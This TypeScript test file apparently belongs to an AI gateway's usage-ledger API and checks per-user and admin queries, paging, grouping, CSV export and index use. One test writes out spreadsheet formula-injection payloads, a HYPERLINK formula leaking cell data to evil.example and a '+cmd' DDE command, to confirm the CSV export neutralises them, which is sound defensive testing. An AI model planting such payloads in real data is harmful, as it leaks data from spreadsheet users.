// Reading the ledger: each caller their own rows, the admin everyone's,
// paged, filtered and grouped, as JSON or CSV; and a large ledger read
// through its indexes.
import { sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { BASE, callWorker, db, TEST_ADMIN_KEY } from "./helpers.ts";
import { admin, appToken, chatAs, uniqueId } from "./identity.ts";

interface Row {
  request_id: string;
  created_at: string;
  model: string;
  provider: string;
  key_id: string | null;
  user_id: string | null;
  prompt_tokens: number;
  completion_tokens: number;
  cost_usd: number;
  status: number;
  usage_estimated: boolean;
}

async function get(path: string, credential: string) {
  const { response } = await callWorker(new Request(`${BASE}${path}`, { headers: { authorization: `Bearer ${credential}` } }));
  const text = await response.text();
  return { status: response.status, headers: response.headers, text, json: () => JSON.parse(text) };
}

/** Calls as the credential and waits for each call's ledger row; the request ids, oldest first. */
async function callsAs(credential: string, count: number, extra: Record<string, unknown> = {}): Promise<string[]> {
  const ids: string[] = [];
  for (let i = 0; i < count; i++) {
    const call = await callWorker(chatAs(credential, extra));
    expect(call.response.status).toBe(200);
    await call.landed();
    ids.push(call.response.headers.get("x-request-id") ?? "");
  }
  return ids;
}

describe("GET /api/ai/usage: each caller their own", () => {
  const alice = uniqueId("alice");
  const bob = uniqueId("bob");
  let aliceToken = "";
  let aliceKey = "";
  let bobKey = "";
  const mine = { alice: [] as string[], aliceKey: [] as string[], bob: [] as string[] };

  beforeAll(async () => {
    aliceToken = await appToken({ sub: alice });
    // Alice is created on first sight; her key belongs to her.
    mine.alice = await callsAs(aliceToken, 2);
    aliceKey = String((await admin("POST", "/admin/keys", { user_id: alice, metadata: { session_id: `s-${alice}` } })).body.key);
    bobKey = String((await admin("POST", "/admin/keys", { name: bob })).body.key);
    mine.aliceKey = await callsAs(aliceKey, 2, { model: "mock-lorem", max_tokens: 3 });
    mine.bob = await callsAs(bobKey, 1);
  });

  it("a key sees its own rows, newest first, with the documented fields", async () => {
    const page = await get("/api/ai/usage", aliceKey);
    expect(page.status).toBe(200);
    const body = page.json() as { data: Row[]; next_cursor: string | null };
    expect(body.data.map((r) => r.request_id)).toEqual([...mine.aliceKey].reverse());
    expect(body.next_cursor).toBeNull();
    expect(body.data[0]).toMatchObject({
      model: "mock-lorem",
      provider: "mock",
      upstream_model: "mock-lorem",
      prompt_tokens: 3,
      completion_tokens: 3,
      cached_tokens: 0,
      cache_write_tokens: 0,
      status: 200,
      streamed: false,
      usage_estimated: false,
    });
    for (const field of ["created_at", "cost_usd", "latency_ms", "ttfb_ms"]) expect(body.data[0]).toHaveProperty(field);
  });

  it("a user sees their rows and their keys', never another's; another key sees only its own", async () => {
    const asAlice = (await get("/api/ai/usage", aliceToken)).json() as { data: Row[] };
    expect(new Set(asAlice.data.map((r) => r.request_id))).toEqual(new Set([...mine.alice, ...mine.aliceKey]));
    const asBob = (await get("/api/ai/usage", bobKey)).json() as { data: Row[] };
    expect(asBob.data.map((r) => r.request_id)).toEqual(mine.bob);
  });

  it("pages with a cursor, every row once", async () => {
    const seen: string[] = [];
    let cursor: string | null = "";
    while (cursor !== null) {
      const page = (await get(`/api/ai/usage?limit=1${cursor ? `&cursor=${cursor}` : ""}`, aliceToken)).json() as {
        data: Row[];
        next_cursor: string | null;
      };
      seen.push(...page.data.map((r) => r.request_id));
      cursor = page.next_cursor;
    }
    expect(seen).toHaveLength(4);
    expect(new Set(seen).size).toBe(4);
  });

  it("filters by model, and groups with sums equal to the rows'", async () => {
    const lorem = (await get("/api/ai/usage?model=mock-lorem", aliceToken)).json() as { data: Row[] };
    expect(lorem.data.map((r) => r.request_id).sort()).toEqual([...mine.aliceKey].sort());
    const rows = ((await get("/api/ai/usage", aliceToken)).json() as { data: Row[] }).data;
    const grouped = (await get("/api/ai/usage?group_by=model", aliceToken)).json() as {
      data: { model: string; requests: number; prompt_tokens: number; completion_tokens: number; cost_usd: number }[];
    };
    for (const group of grouped.data) {
      const of = rows.filter((r) => r.model === group.model);
      expect(group.requests).toBe(of.length);
      expect(group.prompt_tokens).toBe(of.reduce((sum, r) => sum + r.prompt_tokens, 0));
      expect(group.completion_tokens).toBe(of.reduce((sum, r) => sum + r.completion_tokens, 0));
      expect(group.cost_usd).toBeCloseTo(
        of.reduce((sum, r) => sum + r.cost_usd, 0),
        12,
      );
    }
    expect(grouped.data.map((g) => g.model).sort()).toEqual(["mock-echo", "mock-lorem"]);
  });

  it.each([
    ["limit=501", "limit", /at most 500/],
    ["limit=ten", "limit", /must be a number/],
    ["from=yesterday", "from", /ISO 8601/],
    ["group_by=user", "group_by", /one or more of total, day, model, provider/],
    ["cursor=bogus", "cursor", /next_cursor/],
    ["from=2020-01-01&to=2026-01-01", "from", /at most 366 days/],
  ])("refuses ?%s with a 400 naming the parameter", async (query, param, message) => {
    const answer = await get(`/api/ai/usage?${query}`, aliceKey);
    expect(answer.status).toBe(400);
    const error = (answer.json() as { error: { param: string; message: string } }).error;
    expect(error.param).toBe(param);
    expect(error.message).toMatch(message);
  });

  describe("GET /admin/usage: everyone's", () => {
    it("is for the admin key only", async () => {
      expect((await get("/admin/usage", aliceKey)).status).toBe(403);
    });

    it("filters by user, key metadata and status", async () => {
      const byUser = (await get(`/admin/usage?user_id=${alice}&limit=500`, TEST_ADMIN_KEY)).json() as { data: Row[] };
      expect(byUser.data).toHaveLength(4);
      const bySession = (await get(`/admin/usage?metadata.session_id=s-${alice}`, TEST_ADMIN_KEY)).json() as { data: Row[] };
      expect(bySession.data.map((r) => r.request_id).sort()).toEqual([...mine.aliceKey].sort());
      const failed = (await get(`/admin/usage?user_id=${alice}&status=500`, TEST_ADMIN_KEY)).json() as { data: Row[] };
      expect(failed.data).toEqual([]);
    });

    it("groups by several fields at once and downloads as CSV that parses", async () => {
      const csv = await get(`/admin/usage?user_id=${alice}&group_by=day,model&format=csv`, TEST_ADMIN_KEY);
      expect(csv.status).toBe(200);
      expect(csv.headers.get("content-type")).toContain("text/csv");
      const [header, ...lines] = csv.text.trim().split("\r\n");
      expect(header).toBe(
        "day,model,requests,prompt_tokens,completion_tokens,cached_tokens,cache_write_tokens,total_tokens,cost_usd,errors,p50_latency_ms,p95_latency_ms,p50_ttfb_ms,p95_ttfb_ms,audio_seconds,characters,images",
      );
      const parsed = lines.map((line) => line.split(","));
      expect(parsed.map((cells) => cells[1]).sort()).toEqual(["mock-echo", "mock-lorem"]);
      expect(parsed.reduce((sum, cells) => sum + Number(cells[2]), 0)).toBe(4);
      expect(parsed.every((cells) => /^\d{4}-\d{2}-\d{2}$/.test(cells[0] ?? ""))).toBe(true);
    });

    it("neutralises cells a spreadsheet would run as a formula, in every column", async () => {
      const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
      const user = `@${uniqueId("csv")}`;
      expect((await admin("POST", "/admin/users", { id: user })).status).toBe(201);
      const key = String(
        (await admin("POST", "/admin/keys", { user_id: user, metadata: { note: "+cmd|' /C calc'!A0", tab: "\tx" } })).body.key,
      );
      // Sent to a provider that refuses the name: the refusal is on the ledger, name and all.
      const refused = await callWorker(chatAs(key, { model: formula }, { "x-sluice-provider": "mock" }));
      expect(refused.response.status).toBeGreaterThanOrEqual(400);
      await refused.landed();
      await callsAs(key, 1);
      const csv = await get(`/admin/usage?user_id=${encodeURIComponent(user)}&format=csv`, TEST_ADMIN_KEY);
      expect(csv.status).toBe(200);
      const [header = "", ...lines] = csv.text.trim().split("\r\n");
      const columns = header.split(",");
      expect(lines.length).toBeGreaterThanOrEqual(1);
      // No cell, quoted or not, begins with a character a spreadsheet evaluates.
      const cells = lines.flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
      for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
      const userCell = lines[0]?.split(",")[columns.indexOf("user_id")];
      expect(userCell).toBe(`'${user}`);
      expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
      expect(csv.text).toContain(`""note"":""+cmd`);
      // The JSON is untouched: neutralising is the CSV's business.
      const json = (await get(`/admin/usage?user_id=${encodeURIComponent(user)}`, TEST_ADMIN_KEY)).json() as { data: Row[] };
      expect(json.data.every((row) => row.user_id === user)).toBe(true);
    });

    it("refuses a cursor that does not decode to a position, naming `cursor`, without a query", async () => {
      for (const forged of ["2026-12-05T00:00:00Z|99999999999999999999", "2026-12-05T00:00:00.000Z|1|2", "Dec 5 2026|7"]) {
        const cursor = btoa(forged).replaceAll("=", "");
        const answer = await get(`/admin/usage?cursor=${cursor}`, TEST_ADMIN_KEY);
        expect(answer.status, forged).toBe(400);
        expect((answer.json() as { error: { param: string } }).error.param).toBe("cursor");
      }
    });

    it("answers under LiteLLM's names: /spend/logs and /global/spend/report", async () => {
      const logs = (await get(`/spend/logs?user_id=${alice}`, TEST_ADMIN_KEY)).json() as Row[];
      expect(logs).toHaveLength(4);
      // A page that is not the last says where the next begins.
      const first = await get(`/spend/logs?user_id=${alice}&limit=3`, TEST_ADMIN_KEY);
      expect(first.json()).toHaveLength(3);
      const cursor = first.headers.get("x-next-cursor");
      expect(cursor).toBeTruthy();
      const rest = await get(`/spend/logs?user_id=${alice}&limit=3&cursor=${cursor}`, TEST_ADMIN_KEY);
      expect((rest.json() as Row[]).map((row) => row.request_id)).toEqual([logs[3]?.request_id]);
      expect(rest.headers.get("x-next-cursor")).toBeNull();
      const report = (await get("/global/spend/report?group_by=api_key", TEST_ADMIN_KEY)).json() as {
        key_id: string | null;
        requests: number;
      }[];
      expect(report.some((row) => row.requests >= 1 && row.key_id !== null)).toBe(true);
      // A bad parameter is named as the caller sent it.
      const refused = await get("/spend/logs?start_date=yesterday", TEST_ADMIN_KEY);
      expect(refused.status).toBe(400);
      expect((refused.json() as { error: { param: string } }).error.param).toBe("start_date");
    });
  });
});

describe("a large ledger", () => {
  it("holds 100,000 rows and reads a user's page and a month's totals through its indexes", async () => {
    const user = uniqueId("big");
    // 100k rows over 60 days, spread across 50 users, this one among them.
    await db().execute(sql`
      insert into usage_events (request_id, principal_type, principal_id, user_id, provider, model, client_format,
        prompt_tokens, completion_tokens, cost_usd, latency_ms, status, created_at)
      select 'big-' || ${user} || '-' || g, 'user', u, u, 'mock', case when g % 3 = 0 then 'mock-echo' else 'mock-lorem' end,
        'openai', 10, 5, 0.0001, 20, 200, now() - (g % 86400) * interval '1 minute'
      from generate_series(1, 100000) g, lateral (select case when g % 50 = 0 then ${user} else 'big-other-' || (g % 50) end as u) who`);
    await db().execute(sql`analyze usage_events`);
    const plan = async (query: ReturnType<typeof sql>) =>
      ((await db().execute(sql`explain ${query}`)).rows as { "QUERY PLAN": string }[]).map((r) => r["QUERY PLAN"]).join("\n");
    const page = await plan(
      sql`select * from usage_events where user_id = ${user} and created_at >= now() - interval '30 days' and created_at < now() order by created_at desc, id desc limit 101`,
    );
    expect(page).toMatch(/Index (Only )?Scan.*usage_events_user_time_idx/);
    expect(page).not.toMatch(/Seq Scan/);

    const response = await get(`/admin/usage?user_id=${user}&group_by=day`, TEST_ADMIN_KEY);
    expect(response.status).toBe(200);
    const days = (response.json() as { data: { day: string; requests: number }[] }).data;
    // 2,000 rows for this user, one a minute over the last 60 days' minutes that fall in the default 30-day window.
    const total = days.reduce((sum, d) => sum + d.requests, 0);
    const [expected] = (
      await db().execute(
        sql`select count(*)::int as n from usage_events where user_id = ${user} and created_at >= now() - interval '30 days'`,
      )
    ).rows as { n: number }[];
    expect(total).toBe(expected?.n);
    expect(total).toBeGreaterThan(0);
  });
});
